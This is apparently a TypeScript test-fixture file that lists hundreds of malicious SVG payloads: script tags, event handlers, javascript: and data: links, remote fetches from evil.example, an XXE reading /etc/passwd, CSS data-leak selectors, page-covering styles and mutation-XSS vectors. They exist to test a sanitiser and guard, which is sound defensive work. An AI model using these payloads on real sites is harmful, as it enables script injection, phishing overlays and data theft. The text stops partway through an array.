/**
 * Untrusted plan markup: every way we know to make an uploaded SVG run script, fetch from
 * another site, navigate the page that shows it, or restyle or cover anything outside its
 * own drawing. One corpus for every consumer: the server's sanitiser, the browser guard
 * (packages/shared/src/plan/svg-guard.ts), and the browser tests that show each payload in
 * the widget and in the admin editor (e2e/plan-xss.e2e.ts).
 *
 * Conventions: script payloads call `alert(1)`, remote resources live on `evil.example`,
 * and anything meant to cover the page paints red. A payload is a whole SVG document.
 */
export interface XssCase {
  /** What the payload tries, short enough to read in a failure message. */
  name: string;
  svg: string;
}

export const wrap = (inner: string, rootAttrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"${rootAttrs}>${inner}</svg>`;

const XHTML = 'http://www.w3.org/1999/xhtml';
/** A shape big enough to cover any page if it ever escapes the plan's box. */
const HUGE = '<rect x="-5000" y="-5000" width="20000" height="20000" fill="red"/>';
const ZONE = '<rect class="st0 cls-1" x="10" y="10" width="30" height="30"/>';

const c = (name: string, inner: string, rootAttrs = ''): XssCase => ({ name, svg: wrap(inner, rootAttrs) });
const doc = (name: string, svg: string): XssCase => ({ name, svg });
const link = (name: string, href: string, attr = 'href', extra = ''): XssCase =>
  c(name, `<a ${attr}="${href}"${extra}><rect width="100" height="100" fill="blue"/></a>`);
const css = (name: string, rules: string): XssCase => c(name, `<style>${rules}</style>${ZONE}`);
const rootStyle = (name: string, style: string): XssCase => c(name, HUGE, ` style="${style}"`);

const SCRIPT: XssCase[] = [
  c('script element', '<script>alert(1)</script>'),
  c('script element, upper case', '<SCRIPT>alert(1)</SCRIPT>'),
  c('script from another site', '<script xlink:href="https://evil.example/x.js"/>'),
  c('script with href', '<script href="data:text/javascript,alert(1)"/>'),
  c('script in CDATA', '<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
  c('script with svg: prefix', '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  c('script in the XHTML namespace', `<h:script xmlns:h="${XHTML}">alert(1)</h:script>`),
  c('script under a default XHTML namespace', `<g xmlns="${XHTML}"><script>alert(1)</script></g>`),
  c('script inside defs', '<defs><g><script>alert(1)</script></g></defs>'),
  c(
    'script inside a symbol used by use',
    '<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>',
  ),
  c('script tag split by a nested tag', '<scr<script>ipt>alert(1)</script>'),
  c('script after a valid link', '<a href="#ok"><rect width="1" height="1"/></a><script>alert(1)</script>'),
  doc('script after the root closes', `${wrap('')}<script>alert(1)</script><svg onload="alert(1)"></svg>`),
  c('markup hidden in a title', '<title>&lt;img src=x onerror=alert(1)&gt;</title>'),
  // The root's first <title> is the plan's name (ADR 025): shown in the widget's plan buttons and
  // chooser, the editor's pickers and list, and in attributes (aria-label, title) of both.
  c(
    'a plan name that closes its button',
    '<title>&lt;/button&gt;&lt;img src=x onerror=alert(1)&gt;</title>' + ZONE,
  ),
  c(
    'a plan name that leaves an attribute',
    '<title>" onfocus="alert(1)" autofocus="&gt;&lt;svg onload=alert(1)&gt;</title>' + ZONE,
  ),
  c(
    'a plan name with template syntax and direction overrides',
    "<title>{{constructor.constructor('alert(1)')()}} ${alert(1)} \u202e\u2066&lt;/option&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>" +
      ZONE,
  ),
  c('markup hidden in text', '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
];

const HANDLERS: XssCase[] = [
  c('onclick', '<rect width="10" height="10" onclick="alert(1)"/>'),
  c('ONMOUSEOVER, upper case', '<rect width="100" height="100" ONMOUSEOVER="alert(1)"/>'),
  c('onload on the root', '', ' onload="alert(1)"'),
  c('OnLoAd on the root, mixed case', '', ' OnLoAd="alert(1)"'),
  c('onload on a nested svg', '<svg onload="alert(1)"><rect width="1" height="1"/></svg>'),
  c('onfocus with tabindex', '<g onfocus="alert(1)" tabindex="0"><rect width="1" height="1"/></g>'),
  c(
    'onfocusin with autofocus',
    '<rect width="1" height="1" autofocus="" tabindex="1" onfocusin="alert(1)"/>',
  ),
  c('onerror on an image', '<image href="x" onerror="alert(1)" width="1" height="1"/>'),
  c('onload on an inline image', '<image href="data:image/png;base64,iVBORw0KGgo=" onload="alert(1)"/>'),
  c('onbegin on animate', '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  c('onend on set', '<set onend="alert(1)" attributeName="x" to="1" dur="0.1s"/>'),
  c(
    'onanimationstart with a CSS animation',
    '<rect width="9" height="9" style="animation:a 1s" onanimationstart="alert(1)"/>',
  ),
  c('onpointerenter', '<rect width="100" height="100" onpointerenter="alert(1)"/>'),
  c(
    'handler in a namespaced attribute',
    '<rect xmlns:x="http://www.w3.org/2000/svg" width="100" height="100" x:onclick="alert(1)"/>',
  ),
  c('handler on tspan', '<text><tspan onclick="alert(1)">x</tspan></text>'),
  c('handler on a link', '<a href="#x" onmouseover="alert(1)"><rect width="100" height="100"/></a>'),
  c(
    'XML Events handler',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
  c('XML Events listener', '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>'),
  c('handler via an entity-encoded name', '<rect width="100" height="100" &#111;nclick="alert(1)"/>'),
];

const LINKS: XssCase[] = [
  link('javascript: link', 'javascript:alert(1)'),
  link('javascript: in xlink:href', 'javascript:alert(1)', 'xlink:href'),
  link('JaVaScRiPt: mixed case', 'JaVaScRiPt:alert(1)'),
  link('leading spaces', '   javascript:alert(1)'),
  link('java&#9;script: (tab)', 'java&#9;script:alert(1)'),
  link('java&#x09;script: (hex tab)', '  java&#x09;script:alert(1)'),
  link('java&#10;script: (newline)', 'java&#10;script:alert(1)'),
  link('java&#13;script: (carriage return)', 'java&#13;script:alert(1)'),
  link('&#x6a;avascript:', '&#x6a;avascript:alert(1)'),
  link('&#106;avascript:', '&#106;avascript:alert(1)'),
  link('&#0000106; with zero padding', '&#0000106;avascript:alert(1)'),
  link(
    'every letter an entity',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  ),
  link('leading control character', '&#1;javascript:alert(1)'),
  link('leading form feed', '&#12;javascript:alert(1)'),
  link('leading line separator', '\u2028javascript:alert(1)'),
  link('HTML named entity &Tab;', 'java&Tab;script:alert(1)'),
  link('HTML named entity &colon;', 'javascript&colon;alert(1)'),
  link('javascript:// comment trick', 'javascript://%0aalert(1)'),
  link('vbscript:', 'vbscript:msgbox(1)'),
  link('livescript:', 'livescript:alert(1)'),
  link('data:text/html', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'),
  link('data:text/html;base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  link('data:image/svg+xml', 'data:image/svg+xml,&lt;svg onload=alert(1)&gt;'),
  link('both href and xlink:href', 'javascript:alert(1)', 'href', ' xlink:href="#ok"'),
  link(
    'href in a rebound xlink prefix',
    'javascript:alert(1)',
    'y:href',
    ' xmlns:y="http://www.w3.org/1999/xlink"',
  ),
  c(
    'xml:base javascript on the link',
    '<a xml:base="javascript:alert(1)//" href="#x"><rect width="100" height="100"/></a>',
  ),
  c(
    'xml:base javascript on a group',
    '<g xml:base="javascript:alert(1)//"><a href="#x"><rect width="100" height="100"/></a></g>',
  ),
  c(
    'xml:base on the root',
    '<a href="x"><rect width="100" height="100"/></a>',
    ' xml:base="javascript:alert(1)//"',
  ),
  link('target _top', 'https://evil.example/', 'href', ' target="_top"'),
  link('target _parent', 'https://evil.example/', 'href', ' target="_parent"'),
  link('target _self', 'https://evil.example/', 'href', ' target="_self"'),
  link('target on a fragment link', '#x', 'href', ' target="_top"'),
  link('named target', 'https://evil.example/', 'href', ' target="top"'),
  link('xlink:show replace', 'https://evil.example/', 'xlink:href', ' xlink:show="replace"'),
  link('ping to another site', 'https://planvy.se/', 'href', ' ping="https://evil.example/ping"'),
  c(
    'link with a javascript: form action',
    '<a href="#" formaction="javascript:alert(1)" src="javascript:alert(1)"><rect width="1" height="1"/></a>',
  ),
  c(
    'xlink:actuate onLoad',
    '<rect width="1" height="1" xlink:actuate="onLoad" xlink:href="javascript:alert(1)"/>',
  ),
];

const RESOURCES: XssCase[] = [
  c(
    'use of a data: document',
    '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>',
  ),
  c('use of another site', '<use xlink:href="https://evil.example/sprite.svg#icon"/>'),
  c('use of a protocol-relative URL', '<use href="//evil.example/sprite.svg#icon"/>'),
  c('use of another file on this server', '<use href="/api/v1/public/view/1#x"/>'),
  c('image from another site', '<image href="https://evil.example/track.png" width="1" height="1"/>'),
  c('image, protocol-relative', '<image xlink:href="//evil.example/track.png" width="1" height="1"/>'),
  c(
    'image of an SVG data: URL',
    '<image xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="1" height="1"/>',
  ),
  c('image with a javascript: URL', '<image href="javascript:alert(1)" width="1" height="1"/>'),
  c('image with src', '<image src="https://evil.example/src.png" width="1" height="1"/>'),
  c(
    'feImage from another site',
    '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  c(
    'feImage of SVG data',
    '<filter id="f"><feImage xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></filter>',
  ),
  c(
    'gradient template from another site',
    '<linearGradient id="g" href="https://evil.example/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>',
  ),
  c('pattern template from another site', '<pattern id="p" xlink:href="https://evil.example/p.svg#p"/>'),
  c(
    'textPath from another site',
    '<text><textPath href="https://evil.example/p.svg#path">x</textPath></text>',
  ),
  c('fill from another site', '<rect width="1" height="1" fill="url(https://evil.example/p.svg#g)"/>'),
  c('fill with an escaped url(', '<rect width="9" height="9" fill="\\75 rl(https://evil.example/p.svg#g)"/>'),
  c(
    'filter attribute from another site',
    '<rect width="9" height="9" filter="url(https://evil.example/f.svg#f)"/>',
  ),
  c(
    'mask attribute from another site',
    '<rect width="9" height="9" mask="url(&quot;https://evil.example/m.svg#m&quot;)"/>',
  ),
  c(
    'clip-path attribute from another site',
    '<rect width="9" height="9" clip-path="url(//evil.example/c.svg#c)"/>',
  ),
  c(
    'marker attribute from another site',
    '<path d="M0 0L9 9" marker-end="url(https://evil.example/m.svg#m)"/>',
  ),
  c(
    'cursor attribute from another site',
    '<rect width="100" height="100" cursor="url(https://evil.example/c.png), auto"/>',
  ),
  c(
    'cursor element',
    '<cursor id="c" xlink:href="https://evil.example/c.png"/><rect cursor="url(#c)" width="9" height="9"/>',
  ),
  c(
    'font-face-uri',
    '<font-face font-family="x"><font-face-src><font-face-uri xlink:href="https://evil.example/f.svg#f"/></font-face-src></font-face>',
  ),
  c('color-profile', '<color-profile name="x" xlink:href="https://evil.example/p.icc"/>'),
  c('tref', '<text><tref xlink:href="https://evil.example/t.svg#t"/></text>'),
];

const FOREIGN: XssCase[] = [
  c(
    'foreignObject with an HTML image',
    `<foreignObject width="100" height="100"><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
  ),
  c(
    'foreignobject, lower case',
    '<foreignobject><iframe src="javascript:alert(1)"></iframe></foreignobject>',
  ),
  c(
    'FOREIGNOBJECT, upper case',
    `<FOREIGNOBJECT width="100" height="100"><div xmlns="${XHTML}" style="position:fixed;inset:0;background:red"></div></FOREIGNOBJECT>`,
  ),
  c(
    'foreignObject with an HTML style',
    `<foreignObject><style xmlns="${XHTML}">body{display:none}</style></foreignObject>`,
  ),
  c(
    'HTML div covering the page',
    `<div xmlns="${XHTML}" style="position:fixed;inset:0;z-index:2147483647;background:red"></div>`,
  ),
  c('HTML style element', `<h:style xmlns:h="${XHTML}">body{background:red}</h:style>`),
  c('style element in the XHTML namespace', `<style xmlns="${XHTML}">*{color:red!important}</style>`),
  c(
    'HTML link stylesheet',
    `<h:link xmlns:h="${XHTML}" rel="stylesheet" href="https://evil.example/x.css"/>`,
  ),
  c('HTML base element', `<h:base xmlns:h="${XHTML}" href="https://evil.example/"/>`),
  c(
    'HTML meta refresh',
    `<h:meta xmlns:h="${XHTML}" http-equiv="refresh" content="0;url=javascript:alert(1)"/>`,
  ),
  c(
    'HTML iframe with srcdoc',
    `<h:iframe xmlns:h="${XHTML}" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/>`,
  ),
  c('iframe', '<iframe src="javascript:alert(1)"/>'),
  c('embed', '<embed src="javascript:alert(1)"/>'),
  c('object', '<object data="javascript:alert(1)"/>'),
  c('MathML with an HTML image', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'),
  c(
    'audio and video',
    '<audio src="https://evil.example/a.mp3" autoplay=""/><video src="https://evil.example/v.mp4" autoplay=""/>',
  ),
  c('canvas', '<canvas width="9" height="9"/>'),
  c('unknown element with handler', '<blink onmouseover="alert(1)">x</blink>'),
];

const ANIMATION: XssCase[] = [
  c(
    'animate href to javascript:',
    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="100" height="100"/></a>',
  ),
  c(
    'animate xlink:href',
    '<a xlink:href="#x"><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)" dur="9s"/><rect width="100" height="100"/></a>',
  ),
  c(
    'set href to javascript:',
    '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="100" height="100"/></a>',
  ),
  c('set an event handler', '<set attributeName="onmouseover" to="alert(1)"/>'),
  c('animate onload', '<animate attributeName="onload" to="alert(1)"/>'),
  c('set style to cover the page', '<set attributeName="style" to="position:fixed;inset:0;z-index:99999"/>'),
  c(
    'animateTransform moving the drawing',
    '<animateTransform attributeName="transform" type="scale" to="100" dur="1s"/>',
  ),
  c('animateMotion', '<rect width="9" height="9"><animateMotion path="M0 0L900 900" dur="1s"/></rect>'),
  c('animateColor', '<rect width="9" height="9"><animateColor attributeName="fill" to="red"/></rect>'),
  c('discard', '<discard href="#x" begin="0s"/>'),
  c('animate with upper-case name', '<ANIMATE attributeName="href" to="javascript:alert(1)"/>'),
];

const XML: XssCase[] = [
  doc(
    'DOCTYPE with external and internal entities',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "&lt;script&gt;alert(1)&lt;/script&gt;">]>${wrap('<text>&xxe;&lol;</text>')}`,
  ),
  doc(
    'entity expansion (a small billion laughs)',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${wrap('<text>&c;</text>')}`,
  ),
  doc(
    'entity that expands to a script element',
    `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>${wrap('&s;')}`,
  ),
  doc(
    'xml-stylesheet before the root',
    `<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>${wrap(ZONE)}`,
  ),
  doc(
    'XSLT stylesheet',
    `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap('<rect width="1" height="1"/>')}`,
  ),
  c(
    'xml-stylesheet inside the root',
    '<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?><rect width="1" height="1"/>',
  ),
  c('comment hiding a script', '<!--<script>alert(1)</script>--><rect width="1" height="1"/>'),
  doc('root in the XHTML namespace', `<svg xmlns="${XHTML}"><script>alert(1)</script></svg>`),
  doc('HTML document, no SVG root', `<html><body><script>alert(1)</script></body></html>`),
];

const CSS_FETCH: XssCase[] = [
  css('@import url()', '@import url("https://evil.example/x.css");'),
  css('@import string', "@import 'https://evil.example/x.css';"),
  css('@IMPORT upper case', '@IMPORT "https://evil.example/x.css";'),
  css('@import with an escaped name', '@\\69mport "https://evil.example/x.css";'),
  css('@import entity-encoded', '&#64;import "https://evil.example/x.css";'),
  css('url() in a fill rule', '.st0{fill:url(https://evil.example/p.svg#g)}'),
  css('javascript: url', 'rect{background:url(javascript:alert(1))}'),
  css('URL() upper case', '.st0{background-image:URL("https://evil.example/b.png")}'),
  css('escaped url: \\75 rl(', '.st0{background:\\75 rl(https://evil.example/b.png)}'),
  css('escaped url: u\\rl(', '.st0{background:u\\rl(https://evil.example/b.png)}'),
  css('escaped url: u\\72 l(', '.st0{cursor:u\\72 l(https://evil.example/c.png),auto}'),
  css('image-set()', '.st0{background-image:image-set("https://evil.example/a.png" 1x)}'),
  css('-webkit-image-set()', '.st0{background-image:-webkit-image-set(url(https://evil.example/a.png) 1x)}'),
  css('cross-fade()', '.st0{background-image:cross-fade(url(https://evil.example/a.png),url(#x),50%)}'),
  css('image()', '.st0{background-image:image("https://evil.example/a.png")}'),
  css('expression()', '.st0{width:expression(alert(1))}'),
  css('-moz-binding', '.st0{-moz-binding:url(https://evil.example/x.xml#xss)}'),
  css('behavior', '.st0{behavior:url(https://evil.example/x.htc)}'),
  css('cursor url()', '.st0{cursor:url(https://evil.example/c.png),auto}'),
  css('mask-image url()', '.st0{mask-image:url(https://evil.example/m.png)}'),
  css('list-style-image url()', 'text{list-style-image:url(https://evil.example/l.png)}'),
  css('border-image url()', '.st0{border-image:url(https://evil.example/b.png) 30}'),
  css('content url()', '.st0::before{content:url(https://evil.example/c.png)}'),
  css(
    'custom property smuggling a url()',
    '.st0{--x:url(https://evil.example/v.png);background-image:var(--x)}',
  ),
  css(
    '@font-face with a remote source',
    '@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}text{font-family:Evil}',
  ),
  css(
    '@font-face hijacking a host font',
    '@font-face{font-family:Inter;src:local("Courier New")}@font-face{font-family:system-ui;src:local("Courier New")}',
  ),
  css(
    '@font-face hijacking a generic family name',
    '@font-face{font-family:"sans-serif";src:url(https://evil.example/f.woff)}',
  ),
  css(
    'data exfiltration by attribute selector',
    'rect[data-bostad^="1"]{background:url(https://evil.example/leak?1)}',
  ),
  c('url() in a style attribute', '<rect style="fill: url(https://evil.example/x#p)" width="1" height="1"/>'),
  c(
    'escaped url in a style attribute',
    '<rect style="background:\\75 rl(https://evil.example/s.png)" width="1" height="1"/>',
  ),
  c(
    'behavior and -moz-binding in a style attribute',
    '<rect style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)" width="1" height="1"/>',
  ),
  c(
    'entity-encoded url in a style attribute',
    '<rect style="background:&#117;rl(https://evil.example/e.png)" width="1" height="1"/>',
  ),
  c('style element closed by entities', '<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  c(
    'style element in CDATA',
    '<style><![CDATA[ @import "https://evil.example/x.css"; body{display:none} ]]></style>',
  ),
];

const CSS_SCOPE: XssCase[] = [
  css('body', 'body{display:none}'),
  css('html', 'html{background:red!important;filter:invert(1)}'),
  css(':root', ':root{font-size:200px;color:red}'),
  css('*', '*{color:red!important;background:red!important}'),
  css('svg', 'svg{position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh}'),
  css('svg * (inline icons elsewhere)', 'svg *{fill:red!important}'),
  css('common class names', '.st0,.cls-1{fill:red!important;display:none}'),
  css(
    'HTML elements',
    'div,p,span,button,a,input,table,td,th,li,h1,h2,label{color:red!important;visibility:hidden}',
  ),
  css('quoted ( before a second selector', '[title="("],body{display:none}'),
  css('quoted , before a second selector', '[title=","],body{display:none}'),
  css('quoted ) before a second selector', 'text[title=")"],html{display:none}'),
  css('escaped body', '\\62 ody{display:none}'),
  css('BODY upper case', 'BODY{display:none}'),
  css(':is(body)', ':is(body,html) *{color:red}'),
  css(':where(html) *', ':where(html) *{color:red}'),
  css(':not() matching everything', ':not(.nothing){outline:5px solid red}'),
  css(':has()', ':has(rect){background:red}'),
  css(':host', ':host{position:fixed!important;inset:0;z-index:2147483647;background:red}'),
  css(':host()', ':host(*){display:none}'),
  css(':host-context()', ':host-context(body){display:none}'),
  css('::slotted and ::part', '::slotted(*){color:red}::part(x){color:red}'),
  css('nesting selector &', '& body{display:none}.st0{& body{display:none}}'),
  css('nested rule inside a rule', '.st0{fill:blue;body &{display:none}}'),
  css(':scope', ':scope body{display:none}'),
  css('::selection everywhere', '::selection{background:red;color:red}'),
  css('scrollbars everywhere', '::-webkit-scrollbar{width:60px;background:red}'),
  css('namespace selector', '@namespace h url(http://www.w3.org/1999/xhtml);h|body{display:none}'),
  css('@media wrapping a body rule', '@media all{body{display:none}}'),
  css('@supports wrapping a body rule', '@supports (display:block){body{display:none}}'),
  css('@container', '@container (min-width:0){body{display:none}}'),
  css('@scope', '@scope (html){body{display:none}}'),
  css('@layer reordering', '@layer mantine,base;@layer base{body{display:none}}'),
  css(
    '@keyframes overriding a host animation',
    '@keyframes spin{to{transform:scale(50)}}@keyframes mantine-spin{to{transform:scale(50)}}',
  ),
  css(
    '@property registration',
    '@property --mantine-color-body{syntax:"<color>";inherits:true;initial-value:red}',
  ),
  css('@counter-style', '@counter-style disc{system:cyclic;symbols:"X"}'),
  css('@page', '@page{margin:5cm}'),
  css('@view-transition', '@view-transition{navigation:auto}'),
  css('@starting-style', '@starting-style{body{opacity:0}}'),
  css('a child element inside <style>', '.st0{fill:blue}<g>body{display:none}</g>'),
  css(
    'a title element inside <style>',
    '<title>t</title>@import "https://evil.example/x.css";html{display:none}',
  ),
  css('unbalanced brace', '.st0{fill:blue}}body{display:none}'),
  css('unclosed comment', '.st0{fill:blue}/*'),
  css('comment splitting a selector', 'bo/**/dy{display:none}'),
  css('!important over status colours', '.st0{fill:red!important}'),
];

const BOX: XssCase[] = [
  rootStyle(
    'root position:fixed over the page',
    'position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh',
  ),
  rootStyle(
    'root position:absolute',
    'position:absolute;top:0;left:0;z-index:99999;width:3000px;height:3000px',
  ),
  rootStyle('root position:sticky', 'position:sticky;top:0;z-index:99999'),
  rootStyle('root negative margins', 'margin:-2000px;width:6000px;height:6000px'),
  rootStyle('root transform', 'transform:translate(-50%,-50%) scale(20)'),
  rootStyle('root translate property', 'translate:-500px -500px;scale:20'),
  rootStyle('root zoom', 'zoom:30'),
  rootStyle('root overflow:visible', 'overflow:visible'),
  rootStyle('root outline', 'outline:3000px solid red'),
  rootStyle('root box-shadow', 'box-shadow:0 0 0 3000px red'),
  rootStyle('root display:contents', 'display:contents'),
  rootStyle('root float and huge size', 'float:left;width:5000px;height:5000px'),
  rootStyle('root escaped position', 'po\\73 ition:fixed;inset:0;z-index:99999'),
  rootStyle('root POSITION upper case', 'POSITION:FIXED;INSET:0;Z-INDEX:99999'),
  rootStyle(
    'root position with !important',
    'position:fixed!important;inset:0!important;z-index:99999!important',
  ),
  rootStyle('root style via entities', '&#112;osition:fixed;inset:0;z-index:99999'),
  rootStyle('root fixed background', 'background:url(https://evil.example/bg.png) fixed'),
  c('root transform attribute', HUGE, ' transform="translate(-500 -500) scale(30)"'),
  c('root overflow attribute', HUGE, ' overflow="visible"'),
  c(
    'root filter flooding the page',
    `<filter id="f" filterUnits="userSpaceOnUse" x="-9999" y="-9999" width="99999" height="99999"><feFlood flood-color="red"/></filter>${ZONE}`,
    ' filter="url(#f)"',
  ),
  c('root mix-blend-mode', HUGE, ' style="mix-blend-mode:difference" overflow="visible"'),
  c(
    'nested svg with overflow visible',
    `<svg overflow="visible" x="0" y="0" width="10" height="10">${HUGE}</svg>`,
  ),
  c('nested svg positioned fixed', `<svg style="position:fixed;inset:0;z-index:99999">${HUGE}</svg>`),
  c(
    'shape positioned fixed',
    '<rect style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh" fill="red"/>',
  ),
  c('huge shape (must stay clipped)', HUGE),
];

/** A view of another project, as a plan would forge the widget's inlined data. */
const FORGED_VIEW = JSON.stringify({
  etag: '"forged"',
  view: {
    project: { id: 999999, name: 'Forged project' },
    plans: [],
    apartments: [{ id: 1, bostad: '1', price: 1, status: 'sale', link: 'https://pay.example/' }],
    styles: [],
  },
}).replace(/&/g, '&amp;');

/**
 * Every id the widget's page uses (its data block, stylesheet, render-blocking link, labels'
 * targets, dialogs' titles), the browser test's own probes, and names a script reads from window.
 */
const PAGE_IDS = [
  'pv-data',
  'pv-page-css',
  'pv-plan-end',
  'pv-list-title',
  'pv-panel-title',
  'pv-cmp-title',
  'pv-sort',
  'pv-f-priceMin',
  'pv-f-rooms',
  'pv-f-building',
  'pv-sun-title',
  'pv-sun-hint',
  'root',
  'xss-probes',
  'dataLayer',
];

/**
 * The page that inlines a plan (issue 19's review): ids that the page's own elements have, and
 * HTML that the HTML parser reads where XML saw SVG (`<title>`, `<desc>`), CDATA, `<` in an SVG
 * style (not raw text in HTML), tags that end foreign content, case folding and namespaces.
 */
const PAGE: XssCase[] = [
  c('pv-data id on a desc (a forged view)', `<desc id="pv-data">${FORGED_VIEW}</desc>${ZONE}`),
  c('pv-data id on a text (a forged view)', `<text id="pv-data" x="5" y="50">${FORGED_VIEW}</text>`),
  c(
    'pv-data id on a group holding the forged view',
    `<g id="pv-data"><title>${FORGED_VIEW}</title>${ZONE}</g>`,
  ),
  c('every id of the widget page', PAGE_IDS.map((id) => `<rect id="${id}" width="5" height="5"/>`).join('')),
  c(
    'every id of the widget page on a desc, a title and a text',
    PAGE_IDS.map((id) => `<desc id="${id}">x</desc>`).join('') +
      '<title id="pv-panel-title">Pay at pay.example</title><text id="pv-list-title">Pay at pay.example</text>',
  ),
  c(
    'references to page elements by id',
    '<use href="#root"/><use xlink:href="#xss-probes"/><a href="#pv-list-title"><rect fill="url(#pv-page-css)" width="50" height="50" aria-labelledby="pv-panel-title pv-list-title"/></a>',
  ),
  css(
    '#id selectors of page ids',
    '#root,#pv-data,#xss-probes,#pv-list-title,#pv-plan-end{display:none;fill:red}',
  ),
  c(
    'style inside desc restyling the page (a fake payment banner)',
    '<desc><style>div,ul,table,section,header{display:none!important}body::before{content:"Pay the deposit at pay.example";position:fixed;inset:0;z-index:99999;background:red}</style></desc>' +
      ZONE,
  ),
  c(
    'style inside title',
    '<title><style>*{color:red!important;background:red!important}</style></title>' + ZONE,
  ),
  c(
    'self-closed a in desc swallowing the page',
    `<desc><a/></desc>${ZONE}<style>div,section,ul{display:none}</style>`,
  ),
  c(
    'self-closed g in title swallowing the page',
    `<title><g/></title>${ZONE}<text x="5" y="50">after</text>`,
  ),
  c('self-closed a in title, then a style', '<title><a/></title><style>div,p,button{display:none}</style>'),
  c('HTML image with a handler in desc', '<desc><img src="x" onerror="alert(1)"/></desc>'),
  c(
    'HTML base and meta refresh in desc',
    '<desc><base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/></desc>',
  ),
  c(
    'HTML form in title',
    '<title><form action="https://evil.example/"><input name="card" autofocus=""/></form></title>',
  ),
  c(
    'HTML link stylesheet in desc',
    '<desc><link rel="stylesheet" href="https://evil.example/x.css"/></desc>',
  ),
  c(
    'CDATA in desc holding markup',
    '<desc><![CDATA[<style>body{display:none}</style><img src=x onerror=alert(1)>]]></desc>',
  ),
  c(
    'CDATA in a style holding an end tag',
    `<style><![CDATA[</style><style>body{display:none}</style>]]></style>${ZONE}`,
  ),
  c(
    '< in an SVG style (not raw text in HTML)',
    `<style>[title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"]{fill:blue}rect{fill:blue}&lt;/svg&gt;&lt;style&gt;body{display:none}&lt;/style&gt;</style>${ZONE}`,
  ),
  c(
    'tags that end SVG in HTML',
    '<p>p</p><b>b</b><font color="red">f</font><table><tr><td>t</td></tr></table><div style="position:fixed;inset:0;background:red">d</div><br/>',
  ),
  c(
    'a tag that ends SVG inside a text',
    '<text x="5" y="50"><p style="position:fixed;inset:0;background:red">x</p><span>s</span></text>',
  ),
  c('upper-case DESC and STYLE', '<DESC><STYLE>body{display:none}</STYLE></DESC><TITLE><A/></TITLE>' + ZONE),
  c(
    'attribute names HTML folds to lower case',
    '<rect VIEWBOX="0 0 1 1" Width="100" ONCLICK="alert(1)" height="9" STYLE="position:fixed;inset:0"/>',
  ),
  c('script under an XHTML prefix', `<x:script xmlns:x="${XHTML}">alert(1)</x:script>`),
  c('desc in the XHTML namespace', `<desc xmlns="${XHTML}"><style>body{display:none}</style></desc>`),
  c(
    'nested svg redeclaring XHTML',
    `<svg xmlns="${XHTML}"><style>body{display:none}</style><script>alert(1)</script></svg>`,
  ),
  c(
    'SVG elements under a prefix',
    '<s:desc xmlns:s="http://www.w3.org/2000/svg"><s:style>body{display:none}</s:style><s:a/></s:desc>',
  ),
  c(
    'xmlns:xlink rebound to XHTML',
    `<g xmlns:xlink="${XHTML}"><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></g>`,
  ),
  c(
    'MathML annotation-xml as an HTML integration point',
    '<math><annotation-xml encoding="text/html"><style>body{display:none}</style></annotation-xml></math>',
  ),
];

/**
 * SVG vectors of DOMPurify's test suite (cure53/DOMPurify, test/fixtures/expect.mjs, release
 * 3.4.14): mutation XSS through <style>/<title>/<desc>, namespace confusion, animations of
 * links, references to other documents. Rewritten as whole plan documents: the HTML around the
 * <svg> goes, and markup that only an HTML parser would have read as such is written as text.
 */
const DOMPURIFY: XssCase[] = [
  c(
    'mXSS: an element in a style whose attribute ends the style',
    '<style><g title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"/></style>',
  ),
  c(
    'mXSS: a style in a title that ends the title',
    '<title><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style></title>',
  ),
  c(
    'mXSS: an id in a title that ends the title',
    '<title><a id="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;"/></title>',
